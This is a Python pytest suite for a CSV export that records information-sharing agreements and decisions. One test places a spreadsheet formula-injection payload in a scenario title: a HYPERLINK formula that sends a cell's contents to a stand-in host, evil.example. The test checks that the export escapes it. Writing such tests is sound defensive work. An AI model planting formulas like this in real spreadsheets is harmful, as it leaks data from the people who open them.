"""The record-of-processing CSV (`isp ropa`): a row for each agreement in the partnership's
directory and for each recorded decision, in plain words; the facts the directory filled in;
formula escaping; and bad input as one line and exit 1."""

from __future__ import annotations

import csv
import datetime as dt
import io
from pathlib import Path

import pytest
from click.testing import CliRunner
from test_plain_words import offences

from isp_rules import default_ruleset
from isp_rules.assessment import assess
from isp_rules.cli import cli
from isp_rules.directory import load_directory
from isp_rules.exports.ropa import ROPA_COLUMNS, render_ropa
from isp_rules.loader import load_scenario, name_after_file
from isp_rules.register import case_given, open_register, statuses
from isp_rules.scenario import Scenario

ROOT = Path(__file__).resolve().parents[2]
RULES = ROOT / "rulesets"
SCENARIOS = ROOT / "scenarios"
SCHOOL = SCENARIOS / "children-education" / "school-treats-a-section-27-request-as-a-legal-duty.yaml"
DISCHARGE = SCENARIOS / "directory" / "discharge-list-under-the-agreement-states-only-the-case.yaml"
TODAY = dt.date(2026, 12, 7)


def _load(path: Path) -> Scenario:
    return name_after_file(load_scenario(str(path)), str(path))


def _record(register_path: Path | str, *scenarios: Scenario, reference: str = "CS-2026-0412") -> None:
    register = open_register(str(register_path))
    register.append_many([(assess(s, default_ruleset()), s) for s in scenarios], by="DSL",
                         case=case_given(reference, False))


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def _ropa(register_path: Path) -> list[dict[str, str]]:
    register = open_register(str(register_path))
    return _rows(render_ropa(load_directory(RULES), register.records(), statuses(register), TODAY))


def test_each_agreement_is_a_row_with_its_dates_and_document(tmp_path):
    text = render_ropa(load_directory(RULES), [], {}, TODAY)
    rows = _rows(text)
    assert text.splitlines()[0].split(",") == ROPA_COLUMNS
    assert len(rows) == len(load_directory(RULES).agreements) > 0
    assert {r["Record"] for r in rows} == {"Agreement"}
    mash = next(r for r in rows if r["Title"].startswith("York Multi-Agency Safeguarding Hub"))
    assert mash["Organisations"].split("; ")[:2] == ["City of York Council", "North Yorkshire Police"]
    assert mash["Purposes"] == "Protecting a child; Protecting an adult at risk"
    assert "Physical or mental health" in mash["Categories of information"].split("; ")
    assert mash["Special category or criminal offence information"] == \
        "Physical or mental health; Offences, allegations or convictions"
    assert mash["Conditions for sensitive information"].startswith("Art 9: Substantial public interest")
    assert (mash["Routine or one-off"], mash["Starts"], mash["Review by"], mash["Ends"]) == \
        ("Routine or regular", "2021-04-01", "2027-03-31", "")
    assert mash["Document reference"] == "ISA-2021-004 (York MASH), version 3"
    assert mash["How it is sent"] == "Secure email"
    assert mash["Status"] == "In force: review due in 114 days"
    assert mash["Verdict"] == mash["Register no."] == ""


def test_a_recorded_decision_is_a_row_in_plain_words(tmp_path):
    reg = tmp_path / "register.db"
    scenario = _load(SCHOOL)
    _record(reg, scenario)
    (row,) = [r for r in _ropa(reg) if r["Record"] == "Decision"]
    decision = assess(scenario, default_ruleset())
    assert row["Register no."] == "1"
    assert row["Title"] == scenario.title
    assert (row["Shared by"], row["Shared with"]) == ("A primary school in Whitby",
                                                      "North Yorkshire Council (children and families service)")
    assert row["Lawful basis"] == "Legal obligation: the law or a court requires it"
    assert row["Purposes"] == "Meeting a legal duty"  # the case's own words stay in the register
    assert scenario.share.purpose.detail and scenario.share.purpose.detail not in "".join(row.values())
    assert row["Categories of information"] == "Names, dates of birth; School records; Case notes or assessments"
    assert row["Special category or criminal offence information"] == "None"
    assert row["People the information is about"] == "A child (under 18)"
    assert (row["Routine or one-off"], row["Sent outside the UK"]) == ("One-off", "No")
    assert row["Verdict"] == {"allow": "Allow", "deny": "Deny", "needs-agreement": "Needs agreement"}[decision.verdict]
    assert (row["Case reference"], row["Decided by"]) == ("CS-2026-0412", "DSL")
    assert row["Decided (UK time)"].endswith(("GMT", "BST"))
    assert row["Status"] == "recorded, not signed off yet"


def test_a_decision_row_holds_what_the_directory_filled_in(tmp_path):
    # The scenario states neither its lawful basis nor how the list is sent: the discharge
    # agreement it follows settles both, and the decision was made on them.
    reg = tmp_path / "register.db"
    scenario = _load(DISCHARGE)
    assert scenario.share.basis.article_6 is None and scenario.share.handling.transfer is None
    _record(reg, scenario)
    (row,) = [r for r in _ropa(reg) if r["Record"] == "Decision"]
    assert row["Lawful basis"] == "Public task: our statutory functions"
    assert "Art 9: Health or social care" in row["Conditions for sensitive information"]
    assert row["How it is sent"] == "Secure portal"
    assert row["Routine or one-off"] == "Routine or regular"
    assert row["Information sharing agreement"] == "Hospital discharge to assess (York) data sharing agreement (in place)"
    assert row["Shared by"] == "York and Scarborough Teaching Hospitals NHS Foundation Trust"


def test_a_private_individual_is_listed_by_kind_not_by_name(tmp_path):
    reg = tmp_path / "register.db"
    scenario = Scenario.model_validate({
        "title": "A council answers a neighbour's request", "as_of": "2026-12-01",
        "share": {"purpose": {"category": "other"}, "from": {"name": "City of York Council", "type": "local_authority"},
                  "to": {"name": "Jane Doe", "type": "member_of_public"}}})
    _record(reg, scenario)
    (row,) = [r for r in _ropa(reg) if r["Record"] == "Decision"]
    assert row["Shared with"] == "A member of the public"
    assert row["Organisations"] == "City of York Council; A member of the public"
    assert "Jane Doe" not in "".join(row.values())


def test_a_cell_a_spreadsheet_would_run_is_escaped(tmp_path):
    reg = tmp_path / "register.db"
    scenario = Scenario.model_validate({
        "title": '=HYPERLINK("http://evil.example/?"&A1,"click")', "as_of": "2026-12-01",
        "share": {"purpose": {"category": "statutory_duty"},
                  "from": {"name": "+44 council", "type": "local_authority"},
                  "to": {"name": "@school", "type": "school"}}})
    _record(reg, scenario, reference="-1+1")
    (row,) = [r for r in _ropa(reg) if r["Record"] == "Decision"]
    assert row["Title"].startswith("'=HYPERLINK")
    assert row["Shared by"] == "'+44 council"
    assert row["Shared with"] == "'@school"
    assert row["Case reference"] == "'-1+1"


def test_the_whole_record_is_plain_words(tmp_path):
    reg = tmp_path / "register.db"
    library = sorted((SCENARIOS / "directory").glob("*.yaml")) + sorted((SCENARIOS / "safeguarding").glob("*.yaml"))
    _record(reg, *[_load(p) for p in library])
    rows = _ropa(reg)
    assert sum(r["Record"] == "Decision" for r in rows) == len(library)
    found = {f"{r['Title'][:40]} / {column}: {o}" for r in rows for column, cell in r.items()
             for o in offences(cell)}
    assert found == set()


def _invoke(*args: object):
    return CliRunner().invoke(cli, ["ropa", *[str(a) for a in args]])


def test_isp_ropa_writes_the_file_whole(tmp_path):
    reg, out = tmp_path / "register.db", tmp_path / "ropa.csv"
    _record(reg, _load(SCHOOL), _load(DISCHARGE))
    result = _invoke("--register", reg, "--rules", RULES, "-o", out, "--as-of", "2026-12-07")
    assert result.exit_code == 0, result.output
    agreements = len(load_directory(RULES).agreements)
    assert result.stderr.strip() == f"Wrote {agreements} agreement(s) and 2 decision(s) to {out}"
    text = out.read_text(encoding="utf-8")
    assert [r["Record"] for r in _rows(text)] == ["Agreement"] * agreements + ["Decision"] * 2
    assert list(tmp_path.glob("*.tmp")) == []
    to_stdout = _invoke("--register", reg, "--rules", RULES, "-o", "-", "--as-of", "2026-12-07")
    assert to_stdout.exit_code == 0 and to_stdout.stdout == text


def test_isp_ropa_with_nothing_recorded_lists_the_agreements(tmp_path):
    result = _invoke("--register", tmp_path / "none-yet.db", "--rules", RULES)
    assert result.exit_code == 0
    assert [r["Record"] for r in _rows(result.stdout)] == ["Agreement"] * len(load_directory(RULES).agreements)
    assert "No decisions recorded yet" in result.stderr


@pytest.mark.parametrize("args, says", [
    (["--rules", "{tmp}/no-such-rules"], "no such folder"),
    (["-o", "{tmp}/no-such-folder/ropa.csv"], "cannot write the record of processing"),
    (["--register", "{tmp}/not-a-register.txt"], "not an isp-rules register"),
])
def test_bad_input_is_one_line_and_exit_1(tmp_path, args, says):
    (tmp_path / "not-a-register.txt").write_text("hello\n", encoding="utf-8")
    reg = tmp_path / "register.db"
    _record(reg, _load(SCHOOL))
    given = [a.format(tmp=tmp_path) for a in args]
    if "--register" not in given:
        given += ["--register", str(reg)]
    if "--rules" not in given:
        given += ["--rules", str(RULES)]
    result = _invoke(*given)
    assert result.exit_code == 1
    assert "Traceback" not in result.output
    assert len(result.stderr.strip().splitlines()) == 1 and says in result.stderr
    assert not (tmp_path / "no-such-folder").exists()


def test_isp_ropa_reads_a_sqlite_or_postgresql_register(store):
    _record(store.target, _load(SCHOOL))
    result = _invoke("--register", store.target, "--rules", RULES, "--as-of", "2026-12-07")
    assert result.exit_code == 0, result.output
    (row,) = [r for r in _rows(result.stdout) if r["Record"] == "Decision"]
    assert (row["Shared by"], row["Lawful basis"], row["Case reference"]) == (
        "A primary school in Whitby", "Legal obligation: the law or a court requires it", "CS-2026-0412")
